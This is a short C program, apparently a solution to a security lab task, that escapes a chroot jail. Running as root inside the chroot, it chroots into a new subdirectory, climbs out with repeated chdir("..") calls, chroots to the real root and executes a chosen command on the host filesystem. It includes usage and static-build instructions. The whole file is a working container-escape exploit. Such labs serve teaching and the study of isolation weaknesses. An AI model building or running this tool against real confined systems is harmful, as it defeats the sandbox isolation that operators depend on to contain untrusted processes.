/* escape.c — climb out of a chroot (lab 01, task 2).
 *
 * Usage, as root inside a chroot:   /escape CMD [ARGS...]
 * When it works, CMD runs with the *host's* root directory as "/".
 *
 * Build: gcc -static -o escape escape.c
 */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc < 2) {
        fprintf(stderr, "usage: %s CMD [ARGS...]\n", argv[0]);
        return 2;
    }

    /* 1. A directory below the current root. */
    mkdir("/.escape", 0700);

    /* 2. chroot(2) changes where "/" lookups start, nothing else: the current directory
     *    stays where it was, which is now above (outside) the new root. */
    if (chroot("/.escape") != 0) {
        fprintf(stderr, "chroot(\"/.escape\"): %s\n", strerror(errno));
        return 1;
    }

    /* 3. ".." stops only at the process's root; we are not below ours any more. At the
     *    real root ".." is the root itself, so extra steps do no harm. */
    for (int i = 0; i < 100; i++)
        chdir("..");

    /* 4. Make the real root our root again. */
    if (chroot(".") != 0) {
        fprintf(stderr, "chroot(\".\"): %s\n", strerror(errno));
        return 1;
    }

    execv(argv[1], argv + 1);
    fprintf(stderr, "execv(\"%s\"): %s\n", argv[1], strerror(errno));
    return 127;
}
